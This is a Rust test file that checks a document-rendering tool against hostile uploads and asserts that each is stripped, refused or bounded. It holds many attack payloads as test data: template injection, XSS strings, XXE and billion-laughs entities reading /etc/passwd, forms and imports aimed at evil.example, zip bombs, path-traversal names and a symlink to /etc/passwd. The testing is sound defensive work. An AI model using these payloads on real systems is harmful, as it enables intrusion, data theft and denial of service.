//! The hostile inputs of documents: what each of them shows to the person who brings it.

use std::net::TcpListener;
use std::path::Path;
use std::process::Command;

use polisi::documents::Limit;
use polisi::documents::limits;
use polisi::documents::read::{NoteKind, Refusal, Skipped, Tracked, archive, read};
use polisi::messages::{Language, Messages, args};

use super::files::{
    body, claimed_png, lying, overlapping, paragraph, relations, with_password, word_file, zip,
};
use crate::support::environment::{has_program, in_repository};

const CANARY: &str = "canary-7f3a";
/// More memory than for an ordinary file, in KiB.
const GROWTH: u64 = 100 * 1024;

struct Row {
    name: &'static str,
    file: &'static str,
    bytes: Vec<u8>,
    fields: String,
    shows: Shows,
}

enum Shows {
    /// Nothing but this sentence.
    Sentence(Refusal),
    /// The document, complete or not, with these words in its text and without those in its HTML.
    Document { complete: bool, holds: &'static [&'static str], lacks: &'static [&'static str] },
}

fn row(name: &'static str, file: &'static str, bytes: impl Into<Vec<u8>>, shows: Shows) -> Row {
    Row { name, file, bytes: bytes.into(), fields: "{}".to_owned(), shows }
}

fn refused(refusal: Refusal) -> Shows {
    Shows::Sentence(refusal)
}

fn limited(limit: Limit) -> Shows {
    Shows::Sentence(Refusal::Limit(limit))
}

fn complete(holds: &'static [&'static str], lacks: &'static [&'static str]) -> Shows {
    Shows::Document { complete: true, holds, lacks }
}

fn draft(holds: &'static [&'static str], lacks: &'static [&'static str]) -> Shows {
    Shows::Document { complete: false, holds, lacks }
}

/// One value of so many bytes, at so many places.
fn filled(name: &'static str, places: usize, bytes: usize, shows: Shows) -> Row {
    let fields = format!("{{\"org_field_name\": \"{}\"}}", "a".repeat(bytes));
    Row { fields, ..row(name, "policy.md", "{{org_field_name}} ".repeat(places), shows) }
}

fn templates() -> Vec<Row> {
    let text = |name, text: &str, shows| row(name, "policy.md", text, shows);
    vec![
        text("T-01", "Call {{ get_env(name='POLISI_TEST_CANARY') }} now.", draft(&["unknown field"], &[])),
        text("T-02", "Call {{ __tera_context }} now.", draft(&["unknown field"], &[])),
        text(
            "T-03",
            "{% include \"/etc/passwd\" %} {% import \"x\" %} {% extends \"x\" %}",
            complete(&["{% include", "{% extends"], &["root:"]),
        ),
        text(
            "T-04",
            "{% for i in range(end=3000000) %}x{% endfor %}",
            complete(&["{% for i in range(end=3000000) %}x"], &[]),
        ),
        text("T-05", &"{{ (".repeat(20_000), draft(&["unknown field"], &[])),
        text("T-05b", &"{{ (".repeat(20_001), limited(Limit::FieldPlaces)),
        text("T-08", "Call {{org_field_nmae}}.", draft(&["[unknown field: org_field_nmae]"], &[])),
        text("T-09a", "Call {{ org_field_name", draft(&["unknown field"], &[])),
        text("T-09b", "Call {{{org_field_nmae}}}", draft(&["[unknown field: org_field_nmae]"], &[])),
        text("T-09c", "Call {{org_field_nmae}}}}", draft(&["[unknown field: org_field_nmae]"], &[])),
        text(
            "T-09d",
            "Call {{\u{200b}org_field_name}}",
            draft(&["[missing: organisation name]"], &["class=\"unknown\""]),
        ),
        filled("T-10", 10_000, 4_096, limited(Limit::Values)),
        filled("T-10a", 129, 4_096, limited(Limit::Values)),
        filled("T-10b", 128, 4_096, complete(&["aaaa"], &[])),
        text("T-10c", &"{{org_field_name}} ".repeat(20_001), limited(Limit::FieldPlaces)),
        text(
            "T-11",
            "[x](https://e.example/{{org_field_logo}}) and `{{org_field_name}}`",
            draft(&["missing"], &["href=\"https://e.example/\""]),
        ),
        text("T-12", "Call {{org_field_name | safe}}.", draft(&["unknown field"], &[])),
    ]
}

fn markup() -> Vec<Row> {
    let text = |name, text: &str, shows| row(name, "policy.md", text, shows);
    let page = |name, text: &str, shows| row(name, "policy.html", text, shows);
    vec![
        page("X-01", "<p>a<script>alert(1)</script>b", complete(&["ab"], &["alert", "<script"])),
        page("X-02", "<p>a<img src=x onerror=alert(1)>b", complete(&["ab"], &["onerror", "<img"])),
        text(
            "X-01b",
            "a <script>alert(1)</script> <img src=x onerror=alert(1)> <foo onerror=alert(2)> <name of it>",
            complete(&["<foo onerror=alert(2)> <name of it>"], &["<script", "<foo", "<img", "<name"]),
        ),
        text(
            "X-03a",
            "[x](javascript:alert(1)) [y](JaVaScRiPt&colon;alert(1)) [z](data:text/html;base64,PHM+) end",
            complete(&["end"], &["href=\"j", "href=\"J", "href=\"d"]),
        ),
        page(
            "X-03b",
            "<a href=javascript:alert(1)>x</a> <a href='jAvAsCrIpT&colon;alert(1)'>y</a> end",
            complete(&["x y end"], &["href=\"j", "alert"]),
        ),
        page("X-04a", "<p>a<svg><script>alert(1)</script></svg>b", complete(&["ab"], &["alert", "<svg"])),
        page(
            "X-04b",
            "<p>a<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            complete(&["a"], &["onerror", "<img", "<math"]),
        ),
        page(
            "X-07",
            "<p>go <a href='//evil.example' target=_blank>there</a>",
            complete(&["go there"], &["evil"]),
        ),
        page(
            "X-08",
            "<style>@import url(//evil.example)</style><p style='position:fixed'>a",
            complete(&["a"], &["evil", "position:fixed"]),
        ),
        page(
            "X-09",
            "<p>a<form action=//evil.example><input name=pin>pin</form>",
            complete(&["a"], &["evil", "<form", "<input", "pin"]),
        ),
        page(
            "X-10",
            "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example><iframe srcdoc='<p>evil'></iframe><p>a",
            complete(&["a"], &["evil", "<iframe"]),
        ),
        row(
            "X-12",
            "policy.txt",
            "${7*7} #{7*7} {{constructor.constructor('x')()}}",
            draft(&["${7*7} #{7*7}", "unknown field"], &["49"]),
        ),
    ]
}

/// Marks inside marks.
fn deep() -> Vec<Row> {
    let text = |name, text: &str, shows| row(name, "policy.md", text, shows);
    let page = |name, text: &str, shows| row(name, "policy.html", text, shows);
    vec![
        text("X-11a", &"[".repeat(100_000), complete(&["[[["], &[])),
        text("X-11b", &">".repeat(100_000), limited(Limit::Nesting)),
        text(
            "X-11c",
            &(0..500).map(|at| format!("{}- a\n", " ".repeat(at * 2))).collect::<String>(),
            limited(Limit::Nesting),
        ),
        page("X-11d", &"<ul><li>".repeat(10_000), limited(Limit::Depth)),
        page("X-11e", &"<b>a<p>".repeat(20_000), limited(Limit::Depth)),
    ]
}

fn packages() -> Vec<Row> {
    let word = |name, bytes: Vec<u8>, shows| row(name, "policy.docx", bytes, shows);
    let plain = |document: &str| word_file(document, &[]);
    let huge = body(&" ".repeat(200 << 20));
    let laughs = "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>"
        .to_owned()
        + &body(&paragraph("&b;"));
    let outside =
        "<!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/passwd\">]>".to_owned() + &body(&paragraph("&f;"));
    let many: Vec<(String, Vec<u8>)> = (0..20_000).map(|at| (format!("e{at}"), Vec::new())).collect();
    let types =
        "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";
    let renamed = zip(&[("[Content_Types].xml", types.into()), ("word/document.xml", body("").into())]);
    let open = zip(&[
        ("mimetype", b"application/vnd.oasis.opendocument.text".to_vec()),
        ("content.xml", b"<x/>".to_vec()),
        ("META-INF/manifest.xml", b"<x/>".to_vec()),
    ]);
    let inside = (0..9_000).map(|at| (format!("word/media/{at}.png"), b"x".to_vec())).collect::<Vec<_>>();
    vec![
        word("Z-01", plain(&huge), limited(Limit::Part)),
        word("Z-03", zip(&many), limited(Limit::Entries)),
        word(
            "Z-03b",
            zip(&[vec![("word/document.xml".to_owned(), body("").into())], inside].concat()),
            limited(Limit::Entries),
        ),
        word("Z-05", plain(&outside), refused(Refusal::Declaration)),
        word("Z-06", plain(&laughs), refused(Refusal::Declaration)),
        word("Z-08", lying(plain(&huge)), refused(Refusal::Broken)),
        word("Z-09a", with_password(), refused(Refusal::Encrypted)),
        word("Z-09b", renamed, refused(Refusal::Macros)),
        word(
            "Z-09c",
            zip(&[("word/document.xml", body("").into()), ("word/vbaProject.bin", vec![1])]),
            refused(Refusal::Macros),
        ),
        word("Z-09d", open, refused(Refusal::OpenDocument)),
        word("Z-10", plain(&body(&"<w:p>".repeat(100_000))), limited(Limit::Depth)),
    ]
}

fn word_files() -> Vec<Row> {
    let word = |name, bytes: Vec<u8>, shows| row(name, "policy.docx", bytes, shows);
    let plain = |document: &str| word_file(document, &[]);
    let nodes = body(&"<w:p/>".repeat(limits::PARTS + 1));
    let words = body(&paragraph(&"a ".repeat(600_000)));
    let cell = format!("<w:tc><w:tcPr><w:gridSpan w:val=\"64\"/></w:tcPr>{}</w:tc>", paragraph("a"));
    let cells = body(&format!("<w:tbl>{}</w:tbl>", format!("<w:tr>{cell}{}</w:tr>", cell).repeat(2_000)));
    let inside = |open: &str, inner: &str, close: &str| {
        plain(&body(&format!("<w:p><w:r>{}{inner}{}</w:r></w:p>", open.repeat(100), close.repeat(100))))
    };
    let alternatives = ("<mc:AlternateContent><mc:Choice>", "</mc:Choice></mc:AlternateContent>");
    let nothing = "<x/>".repeat(500_000);
    let change = "<w:ins w:author=\"a\">";
    let much = format!("<w:r><w:t>{}</w:t></w:r>", "a ".repeat(200_000));
    vec![
        word("Z-10b", plain(&nodes), limited(Limit::Parts)),
        word("too many letters", plain(&words), limited(Limit::Text)),
        word("too many cells", plain(&cells), limited(Limit::Cells)),
        word(
            "no document",
            zip(&[("[Content_Types].xml", b"<Types/>".to_vec()), ("_rels/.rels", b"<R/>".to_vec())]),
            refused(Refusal::Broken),
        ),
        word("unknown entity", plain(&body(&paragraph("a&nbsp;b"))), complete(&["ab"], &[])),
        word(
            "script",
            plain(&body(&paragraph("&lt;script>alert(1)&lt;/script>"))),
            complete(&["<script>alert(1)</script>"], &["<script>"]),
        ),
        word("old", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 WordDocument".to_vec(), refused(Refusal::OldWord)),
        word("rich", b"{\\rtf1 x}".to_vec(), refused(Refusal::RichText)),
        word("empty", Vec::new(), refused(Refusal::Empty)),
        word("cut off", plain(&body(&paragraph("a")))[..200].to_vec(), refused(Refusal::Broken)),
        word("alternatives", inside(alternatives.0, &nothing, alternatives.1), refused(Refusal::Empty)),
        word("groups", inside("<w:drawing><pic>", &nothing, "</pic></w:drawing>"), refused(Refusal::Empty)),
        word(
            "changes",
            plain(&body(&format!("<w:p>{}{much}{}</w:p>", change.repeat(200), "</w:ins>".repeat(200)))),
            complete(&["a a a"], &[]),
        ),
    ]
}

/// How `polisi render` ended.
struct Ended {
    code: String,
    peak: u64,
    said: String,
    text: String,
    html: String,
}

// The files are read by another process, so that what it takes can be measured, and so that a crash
// would be seen as one.
fn render(folder: &Path, file: &str, bytes: &[u8], given: &str) -> Ended {
    let (template, fields, out) = (folder.join(file), folder.join("fields.json"), folder.join("out"));
    std::fs::write(&template, bytes).unwrap();
    std::fs::write(&fields, given).unwrap();
    let output = Command::new("/usr/bin/python3")
        .arg(in_repository("tests/corpus/measured.py"))
        .args(["120", env!("CARGO_BIN_EXE_polisi"), "render", "--to", "html,text", "--template"])
        .arg(&template)
        .arg("--fields")
        .arg(&fields)
        .arg("--output")
        .arg(&out)
        .env_clear()
        .env("POLISI_TEST_CANARY", CANARY)
        .output()
        .unwrap();
    let measured = String::from_utf8(output.stdout).unwrap();
    let (code, peak) = measured.trim().split_once(' ').unwrap();
    let read = |name: &str| std::fs::read_to_string(out.join(name)).unwrap_or_default();
    Ended {
        code: code.to_owned(),
        peak: peak.parse().unwrap(),
        said: String::from_utf8(output.stderr).unwrap().trim().to_owned(),
        text: read("document.txt"),
        html: read("document.html"),
    }
}

fn sentence(refusal: Refusal) -> String {
    let limit = refusal.limit().unwrap_or_default().to_string();
    Messages::load().unwrap().format(Language::English, refusal.key(), &args([("limit", limit)]))
}

fn fault(row: &Row, ended: &Ended, usual: u64) -> Option<String> {
    let wrong = |what: &str| {
        Some(format!("{}: {what}; code {}, {}, {}", row.name, ended.code, ended.said, ended.text))
    };
    if ended.peak > usual + GROWTH {
        return wrong(&format!("took {} KiB, usual are {usual}", ended.peak));
    }
    if [&ended.said, &ended.text, &ended.html].iter().any(|said| said.contains(CANARY)) {
        return wrong("gave the secret away");
    }
    match &row.shows {
        Shows::Sentence(refusal) if ended.code != "1" || ended.said != sentence(*refusal) => {
            wrong("another sentence")
        }
        Shows::Document { complete, .. } if ended.code != if *complete { "0" } else { "3" } => {
            wrong("another end")
        }
        Shows::Document { holds, lacks, .. } => {
            let without = holds.iter().find(|words| !ended.text.contains(**words));
            let with = lacks.iter().find(|words| ended.html.contains(**words));
            without.or(with).and_then(|words| wrong(words))
        }
        Shows::Sentence(_) => None,
    }
}

#[test]
fn hostile_files_end_in_a_document_or_a_sentence() {
    if !has_program("/usr/bin/python3", "--version") {
        return;
    }
    let place = || tempfile::tempdir().unwrap();
    let usual = render(place().path(), "usual.docx", &word_file(&body(&paragraph("a")), &[]), "{}");
    assert_eq!((usual.code.as_str(), usual.text.trim()), ("0", "a"), "{}", usual.said);
    let rows: Vec<Row> =
        [templates(), markup(), deep(), packages(), word_files()].into_iter().flatten().collect();
    let faults: Vec<String> = rows
        .iter()
        .filter_map(|row| fault(row, &render(place().path(), row.file, &row.bytes, &row.fields), usual.peak))
        .collect();
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn hostile_archives_are_stopped_or_tamed() {
    let big = overlapping(10 << 20, 900);
    assert_eq!(archive(&big), Err(Refusal::Limit(Limit::Unpacked)), "Z-02");
    let many: Vec<(String, Vec<u8>)> = (0..100_000).map(|at| (format!("e{at}"), Vec::new())).collect();
    assert_eq!(archive(&zip(&many)), Err(Refusal::Limit(Limit::Entries)), "Z-03");
    let names = [
        "../../x.md",
        "/etc/y.md",
        "C:\\z.md",
        "a/b/c.md",
        "__MACOSX/._c.md",
        "a/.DS_Store",
        "~$c.docx",
        "e\u{202e}.md",
    ];
    let mut files: Vec<(&str, Vec<u8>)> = names.iter().map(|name| (*name, b"# A".to_vec())).collect();
    files.push(("inner.zip", zip(&[("x.md", b"# A".to_vec())])));
    let found = archive(&zip(&files)).unwrap();
    let kept: Vec<(&str, &str)> =
        found.entries.iter().map(|e| (e.folder.as_str(), e.name.as_str())).collect();
    assert_eq!(kept, [("", "x.md"), ("etc", "y.md"), ("C:", "z.md"), ("a/b", "c.md"), ("", "e.md")], "Z-04");
    let skipped: Vec<Skipped> = found.skipped.iter().map(|(_, why)| *why).collect();
    assert_eq!(skipped, [Skipped::System, Skipped::System, Skipped::Temporary, Skipped::Nested], "Z-04");
    let mut with_link = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    with_link.add_symlink("link.md", "/etc/passwd", zip::write::SimpleFileOptions::default()).unwrap();
    let found = archive(&with_link.finish().unwrap().into_inner()).unwrap();
    assert_eq!(found.skipped, [("link.md".to_owned(), Skipped::Link)], "Z-04");
    assert!(found.entries.is_empty());
}

#[test]
fn nothing_in_a_file_opens_a_connection() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let address = format!("http://{}/x.png", listener.local_addr().unwrap());
    let picture = "<w:p><w:r><w:drawing><a:blip r:embed=\"p\"/></w:drawing></w:r></w:p>";
    let outside: String = [("p", "image"), ("t", "attachedTemplate"), ("s", "styles"), ("h", "header"), ("n", "numbering")]
        .iter()
        .map(|(id, kind)| format!("<Relationship Id=\"{id}\" Type=\"http://x/{kind}\" Target=\"{address}\" TargetMode=\"External\"/>"))
        .collect();
    let file = word_file(&body(&(paragraph("a") + picture)), &[relations(&outside)]);
    let reading = read("a.docx", &file, Tracked::Accept).unwrap();
    assert_eq!(reading.source, "a\n");
    assert_eq!(reading.notes[0].kind, NoteKind::PictureLeftOut);
    let page = format!("<link rel=stylesheet href={address}><img src={address}><p>a");
    assert_eq!(read("a.html", page.as_bytes(), Tracked::Accept).unwrap().source, "a\n");
    assert_eq!(listener.accept().unwrap_err().kind(), std::io::ErrorKind::WouldBlock, "Z-07");
}

#[test]
fn pictures_that_could_hurt_are_left_out() {
    let polyglot = [&b"\xff\xd8\xff\xe0<script>alert(1)</script>"[..], &[0; 64]].concat();
    let cases = [
        ("I-01", claimed_png(60_000, 60_000)),
        ("I-03", b"GIF89a\x01\0\x01\0".to_vec()),
        ("I-04", polyglot),
        ("I-05a", Vec::new()),
        ("I-05b", vec![0xff]),
        ("I-05c", b"\xff\xd8\xff".to_vec()),
        ("I-05d", b"no picture at all".to_vec()),
        ("I-07", b"\0\0\0\x18ftypheic".to_vec()),
        ("S-01", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>".to_vec()),
        ("too large", [claimed_png(2, 2), vec![0; limits::PICTURE_BYTES]].concat()),
    ];
    let picture = "<w:p><w:r><w:drawing><a:blip r:embed=\"p\"/></w:drawing></w:r></w:p>";
    let relation = "<Relationship Id=\"p\" Type=\"http://x/image\" Target=\"media/a.png\"/>";
    for (name, bytes) in cases {
        let file = word_file(
            &body(&(paragraph("a") + picture)),
            &[relations(relation), ("word/media/a.png", bytes)],
        );
        let reading = read("a.docx", &file, Tracked::Accept).unwrap();
        assert!(reading.pictures.is_empty() && reading.source == "a\n", "{name}");
        assert_eq!(reading.notes[0].kind, NoteKind::PictureLeftOut, "{name}");
    }
}
